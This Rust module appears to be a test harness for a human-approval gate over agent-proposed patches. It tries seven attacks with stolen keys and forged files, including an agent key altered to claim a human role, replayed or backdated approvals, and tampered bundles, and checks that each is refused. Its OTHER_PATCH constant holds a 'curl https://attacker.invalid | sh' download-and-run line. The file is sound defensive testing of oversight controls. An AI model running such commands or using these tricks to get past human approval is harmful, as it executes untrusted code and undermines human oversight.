//! Ways to cheat, each tried against the real server, gate or verifier.
//!
//! Records are made by hand with the ordinary commands, by actors whose keys are taken to be stolen.

use std::{fmt, fs, time::Duration};

use counterfoil_receipt::{
    RecordId, UnverifiedRecord,
    body::{Body, Type},
};
use serde_json::{Value, json};

use super::{
    runs::{Play, broken},
    stage::{Actor, Said},
    tamper::Pieces,
    telling::Telling,
};
use crate::{error::Outcome, git_apply::PATCH, style::Style};

/// A patch that nobody approved.
const OTHER_PATCH: &str = "diff --git a/backdoor.sh b/backdoor.sh\nnew file mode 100755\n--- /dev/null\n+++ b/backdoor.sh\n\
    @@ -0,0 +1 @@\n+curl https://attacker.invalid | sh\n";
/// Who refuses.
const GATE: &str = "gate";
const LOG: &str = "log";
const VERIFIER: &str = "verifier";
/// The name of the file that an attacker passes off as the approved run's.
const FORGED: &str = "forged.bundle.jsonl";

/// All that is needed to attack.
pub struct Attacks<'p> {
    /// The play.
    pub play: &'p Play<'p>,
    /// A patch that applies.
    pub patch: &'p str,
    /// The approved run, and its bundle.
    pub approved: &'p (String, Vec<u8>),
}

/// What an attack came to.
#[derive(Debug)]
pub struct Attempt {
    what: &'static str,
    by: &'static str,
    expected: &'static str,
    why: &'static str,
    status: i32,
    codes: Vec<String>,
}

/// A way to cheat, tried on an approved proposal where it needs one.
type Attack<'p> = fn(&Attacks<'p>, &Target) -> Outcome<Vec<Attempt>>;

/// A run with an approved proposal that was not executed yet.
struct Target {
    run: String,
    proposal: String,
    bundle: Pieces,
    decision: UnverifiedRecord,
}

impl Attacks<'_> {
    /// Tries them all.
    pub fn all(&self) -> Outcome<Vec<Attempt>> {
        let kinds: [Attack<'_>; 7] = [
            Self::another_patch,
            Self::agent_decides,
            Self::executed_twice,
            Self::two_approvers,
            Self::expired,
            Self::replayed,
            Self::forged_files,
        ];
        let telling = self.play.telling;
        telling.part("Attacks", "with stolen keys and forged files: who refuses each, and why")?;
        let target = self.target()?;
        let mut attempts: Vec<Attempt> = Vec::new();
        for attempt in kinds {
            for attempt in attempt(self, &target)? {
                if attempts.last().is_none_or(|last| last.what != attempt.what) {
                    telling.say(&format!("  {}\n", attempt.what))?;
                }
                telling.say(&attempt.line(telling.style()))?;
                attempts.push(attempt);
            }
        }
        let refused = attempts.iter().filter(|attempt| attempt.is_refused()).count();
        telling.say(&format!("\n  {} attacks, {refused} refused\n", attempts.len()))?;
        Ok(attempts)
    }

    /// Another patch than the approved one: asked of the gate, and slipped past it with the runtime's stolen key.
    fn another_patch(&self, target: &Target) -> Outcome<Vec<Attempt>> {
        const WHAT: &str = "another patch than the approved one";
        let runtime = &self.play.cast.runtime;
        let content = runtime.write("other.json", Value::from(OTHER_PATCH).to_string().as_bytes())?;
        let item = self
            .play
            .act(runtime, &["record", "item", &content, "--label", PATCH, "--payload", "other.payload"])?;
        let mut action = target.action()?;
        action["committed"][PATCH] = item.text("commitment")?.into();
        let file = runtime.write("other-action.json", action.to_string().as_bytes())?;
        let gate = self.gate(&target.run, &["--proposal", &target.proposal, "--action", &file])?;
        let body = target.execution(&action, 1, &target.decision)?;
        let log = self.submit_execution(&target.run, &target.decision.id(), &body, None)?;
        Ok(vec![
            Attempt::of(WHAT, GATE, "action-differs", "its hash is not the approved one", &gate),
            Attempt::of(WHAT, LOG, "action-differs", "not even when signed with the runtime's key", &log),
        ])
    }

    /// The agent's key signs what a human has to: it says that its role is human.
    fn agent_decides(&self, target: &Target) -> Outcome<Vec<Attempt>> {
        let agent = &self.play.cast.agent;
        let key = String::from_utf8(agent.read("keys/agent.key")?)
            .map_err(|_| broken("the key file is no text"))?;
        let thief = agent.dir.join("keys/thief.key");
        crate::output::write_secret(&thief, key.replace("role = \"agent\"", "role = \"human\"").as_bytes())?;
        let body = agent.write("decision.json", value(&target.decision)["body"].to_string().as_bytes())?;
        let key = ["--key", "keys/thief.key"];
        let said = self.submit_by_hand(agent, Type::Decision, &target.run, &target.proposal, &body, &key)?;
        Ok(vec![Attempt::of(
            "the decision signed by the agent's key",
            LOG,
            "key-role",
            "that key is an agent's; only people decide",
            &said,
        )])
    }

    /// The same approval executed twice: asked of the gate, and past it.
    fn executed_twice(&self, _: &Target) -> Outcome<Vec<Attempt>> {
        const WHAT: &str = "the same approval executed twice";
        let (run, bundle) = self.approved;
        let gate = self.gate(run, &[])?;
        let bundle = Pieces::of(bundle).ok_or_else(|| broken("the approved run is no bundle"))?;
        let execution = bundle.first(Type::Execution).ok_or_else(|| broken("nothing was executed"))?;
        let mut body = value(&execution)["body"].clone();
        body["nonce"] = nonce()?.into();
        let log = self.submit_execution(run, &execution.id(), &body.to_string(), None)?;
        Ok(vec![
            Attempt::of(WHAT, GATE, "use-exceeded", "one use was granted, and one was made", &gate),
            Attempt::of(WHAT, LOG, "use-consumed", "the log holds an execution with this use", &log),
        ])
    }

    /// Two people approve one use; the runtime's key claims it once on each approval.
    fn two_approvers(&self, target: &Target) -> Outcome<Vec<Attempt>> {
        let (play, action) = (self.play, target.action()?);
        play.approve(
            &play.cast.second_human,
            &target.run,
            &["--proposal", &target.proposal, "--window", "15m"],
        )?;
        let both = self.play.bundle(&target.run)?;
        let decisions: Vec<UnverifiedRecord> =
            both.run_records().into_iter().filter(|record| record.kind() == Type::Decision).collect();
        let [first, second] = decisions.as_slice() else { return Err(broken("there are not two decisions")) };
        let target = Target {
            run: target.run.clone(),
            proposal: target.proposal.clone(),
            bundle: both,
            decision: first.clone(),
        };
        let honest =
            self.submit_execution(&target.run, &first.id(), &target.execution(&action, 1, first)?, None)?;
        if honest.status != 0 {
            return Err(broken("the first execution on two approvals was not admitted"));
        }
        let said =
            self.submit_execution(&target.run, &second.id(), &target.execution(&action, 1, second)?, None)?;
        Ok(vec![Attempt::of(
            "two approvers, one use, two executions",
            LOG,
            "use-consumed",
            "a use is the proposal's, not each approver's",
            &said,
        )])
    }

    /// An approval whose window is over: asked of the gate, and past it with a backdated record.
    fn expired(&self, _: &Target) -> Outcome<Vec<Attempt>> {
        const WHAT: &str = "an expired approval";
        let (quiet, human) = (self.quiet(), &self.play.cast.human);
        let run = quiet.start()?;
        let proposal = quiet.propose(&run, self.patch, None)?;
        quiet.approve(human, &run, &["--window", "1s"])?;
        let bundle = self.play.bundle(&run)?;
        let decision = bundle.first(Type::Decision).ok_or_else(|| broken("there is no decision"))?;
        let until = value(&decision)["body"]["window"]["until"].as_u64().unwrap_or(0);
        let expired = Target { run, proposal, bundle, decision };
        let body = expired.execution(&expired.action()?, 1, &expired.decision)?;
        let left = until.saturating_sub(crate::time::now()) + 20;
        self.play.stage.pause(Duration::from_millis(left))?;
        let gate = self.gate(&expired.run, &["--proposal", &expired.proposal])?;
        let inside = until.saturating_sub(1).to_string();
        let log = self.submit_execution(&expired.run, &expired.decision.id(), &body, Some(&inside))?;
        Ok(vec![
            Attempt::of(WHAT, GATE, "window-closed", "it was for one second, which is over", &gate),
            Attempt::of(
                "… and the execution backdated",
                LOG,
                "window-closed",
                "the log's time counts as well",
                &log,
            ),
        ])
    }

    /// The whole approved run, submitted to another log.
    fn replayed(&self, _: &Target) -> Outcome<Vec<Attempt>> {
        let stage = self.play.stage;
        let second = stage.serve("second-log")?;
        let replayer = stage.actor(&second, "replayer")?;
        let bundle = Pieces::of(&self.approved.1).ok_or_else(|| broken("the approved run is no bundle"))?;
        let lines: Vec<u8> =
            bundle.run_records().iter().flat_map(|record| [record.bytes(), b"\n"].concat()).collect();
        let file = replayer.write("run.records", &lines)?;
        let said = stage.run(&replayer, &["submit", &file])?;
        Ok(vec![Attempt::of(
            "the run replayed into a second log",
            LOG,
            "log-mismatch",
            "each record names the log that it is for",
            &said,
        )])
    }

    /// The approved run's file, changed in ways that a reader must notice.
    fn forged_files(&self, _: &Target) -> Outcome<Vec<Attempt>> {
        type Change = fn(&mut Pieces) -> Option<()>;
        let changes: [(&str, &str, &str, Change); 4] = [
            (
                "another record's inclusion proof",
                "inclusion-mismatch",
                "it leads to another root than the log signed",
                Pieces::swap_proof_hashes,
            ),
            (
                "a record removed from the middle",
                "inclusion-mismatch",
                "what is left does not fit the proof",
                |pieces| pieces.leave_out(Type::Observation),
            ),
            (
                "… and the proof recomputed",
                "parent-unknown",
                "the next record names the one removed",
                |pieces| pieces.leave_out_skilfully(Type::Observation),
            ),
            ("one byte changed", "signature-invalid", "its author did not sign that", |pieces| {
                pieces.change_a_letter(Type::Observation)
            }),
        ];
        let auditor = &self.play.cast.auditor;
        let mut attempts = Vec::new();
        for (what, expected, why, change) in changes {
            let mut pieces =
                Pieces::of(&self.approved.1).ok_or_else(|| broken("the approved run is no bundle"))?;
            change(&mut pieces).ok_or_else(|| broken(&format!("nothing to forge: {what}")))?;
            auditor.write(FORGED, &pieces.to_bytes())?;
            let said = self.play.stage.run(auditor, &["verify", FORGED])?;
            let findings = said.json()["findings"].as_array().cloned().unwrap_or_default();
            let codes = findings
                .iter()
                .filter_map(|finding| finding["code"].as_str())
                .take(1)
                .map(str::to_owned)
                .collect();
            attempts.push(Attempt { what, by: VERIFIER, expected, why, status: said.status, codes });
        }
        Ok(attempts)
    }

    /// A run with an approved proposal.
    fn target(&self) -> Outcome<Target> {
        let quiet = self.quiet();
        let run = quiet.start()?;
        let proposal = quiet.propose(&run, self.patch, None)?;
        quiet.approve(&quiet.cast.human, &run, &["--window", "15m"])?;
        let bundle = self.play.bundle(&run)?;
        let decision = bundle.first(Type::Decision).ok_or_else(|| broken("there is no decision"))?;
        Ok(Target { run, proposal, bundle, decision })
    }

    /// The same play, without an audience.
    fn quiet(&self) -> Play<'_> {
        let Play { stage, cast, task, telling } = *self.play;
        Play { stage, cast, task, telling: Telling::new(telling.style(), true) }
    }

    fn gate(&self, run: &str, more: &[&str]) -> Outcome<Said> {
        let repository = self.play.task.repository.path().to_string_lossy().into_owned();
        let command = ["gate", "apply", run, "--repo", &repository];
        self.play.stage.run(&self.play.cast.runtime, &[&command[..], more].concat())
    }

    /// Signs an execution with the runtime's key, past its gate, and submits it.
    fn submit_execution(
        &self,
        run: &str,
        parent: &RecordId,
        body: &str,
        time: Option<&str>,
    ) -> Outcome<Said> {
        let runtime = &self.play.cast.runtime;
        let body = runtime.write("execution.json", body.as_bytes())?;
        let more: Vec<&str> = time.iter().flat_map(|time| ["--time", *time]).collect();
        self.submit_by_hand(runtime, Type::Execution, run, &parent.to_string(), &body, &more)
    }

    fn submit_by_hand(
        &self,
        who: &Actor,
        kind: Type,
        run: &str,
        parent: &str,
        body: &str,
        more: &[&str],
    ) -> Outcome<Said> {
        let record = who.dir.join("by-hand.record");
        let _ = fs::remove_file(&record);
        let command = [
            "record",
            "new",
            kind.as_str(),
            "--run",
            run,
            "--parents",
            parent,
            "--body",
            body,
            "--out",
            "by-hand.record",
        ];
        self.play.act(who, &[&command[..], more].concat())?;
        let answer = self.play.stage.run(who, &["submit", "by-hand.record"]);
        who.take("by-hand.record")?;
        answer
    }
}

impl Target {
    /// The action that was proposed, as it stands in the record.
    fn action(&self) -> Outcome<Value> {
        let named = |record: &UnverifiedRecord| record.id().to_string() == self.proposal;
        let proposal = self.bundle.run_records().into_iter().find(named);
        proposal
            .map(|record| value(&record)["body"]["action"].clone())
            .ok_or_else(|| broken("the proposal is not in its bundle"))
    }

    /// The body of an execution record, as a gate would write it, for this action on this decision.
    fn execution(&self, action: &Value, use_number: u64, decision: &UnverifiedRecord) -> Outcome<String> {
        let Body::Decision(body) = decision.body() else { return Err(broken("that is no decision")) };
        let (size, root) = self.bundle.basis().ok_or_else(|| broken("the bundle has no checkpoint"))?;
        let execution = json!({
            "action": action, "basis": {"root": root, "size": size}, "decisions": [decision.id().to_string()],
            "nonce": nonce()?,
            "policy": body.policy.to_string(), "proposal": self.proposal, "use": use_number,
        });
        Ok(execution.to_string())
    }
}

impl Attempt {
    /// What a command came to that has to be refused with the code expected, for this reason.
    fn of(
        what: &'static str,
        by: &'static str,
        expected: &'static str,
        why: &'static str,
        said: &Said,
    ) -> Self {
        Self { what, by, expected, why, status: said.status, codes: said.codes() }
    }

    /// Who refused it, and why; or that nobody did.
    fn line(&self, style: Style) -> String {
        if self.is_refused() {
            format!("    {:<9} {} {}\n", self.by, style.good(&format!("{:<19}", self.code())), self.why)
        } else {
            format!("    {}\n", style.bad(&format!("NOT REFUSED: {self}")))
        }
    }

    /// Whether it failed, and with the code that it must fail with.
    pub fn is_refused(&self) -> bool {
        self.status > 0 && !self.codes.is_empty() && self.codes.iter().all(|code| code == self.expected)
    }

    fn code(&self) -> &str {
        self.codes.first().map_or("no code", String::as_str)
    }

    /// For a program.
    pub fn to_json(&self) -> Value {
        json!({"attack": self.what, "by": self.by, "code": self.code(), "expected": self.expected,
            "why": self.why, "refused": self.is_refused()})
    }
}

impl fmt::Display for Attempt {
    fn fmt(&self, f: &mut fmt::Formatter<'_>) -> fmt::Result {
        let Self { what, by, expected, status, .. } = self;
        write!(f, "{what}: the {by} gave exit status {status} with {}, not {expected}", self.code())
    }
}

fn nonce() -> Outcome<String> {
    let nonce = counterfoil_keys::random_nonce().map_err(|error| crate::signing::key_failure(&error))?;
    Ok(nonce.to_string())
}

fn value(record: &UnverifiedRecord) -> Value {
    serde_json::from_slice(record.bytes()).unwrap_or_default()
}
